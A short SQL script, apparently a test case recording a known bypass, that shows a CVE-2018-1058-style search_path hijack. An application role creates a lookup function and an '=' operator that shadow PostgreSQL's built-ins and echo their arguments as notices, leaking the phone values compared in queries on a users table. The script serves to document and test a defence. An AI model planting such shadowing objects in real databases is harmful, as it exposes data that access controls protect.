-- what: an operator and a function that shadow PostgreSQL's own by search_path
-- known: bypasses.md: CVE-2018-1058 class
-- purpose: service
\connect - dba
CREATE SCHEMA first AUTHORIZATION app;
\connect - app
CREATE FUNCTION first.shout(text, text) RETURNS boolean LANGUAGE plpgsql COST 0.001 AS $$ BEGIN RAISE NOTICE '%', $1; RETURN true; END $$;
CREATE OPERATOR first.= (LEFTARG = text, RIGHTARG = text, FUNCTION = first.shout);
CREATE FUNCTION first.lower(text) RETURNS text LANGUAGE plpgsql COST 0.001 AS $$ BEGIN RAISE NOTICE '%', $1; RETURN $1; END $$;
SET search_path = first, pg_catalog, public;
SELECT 1 FROM users WHERE phone = 'x';
SELECT 1 FROM users WHERE lower(phone) OPERATOR(pg_catalog.=) 'x';
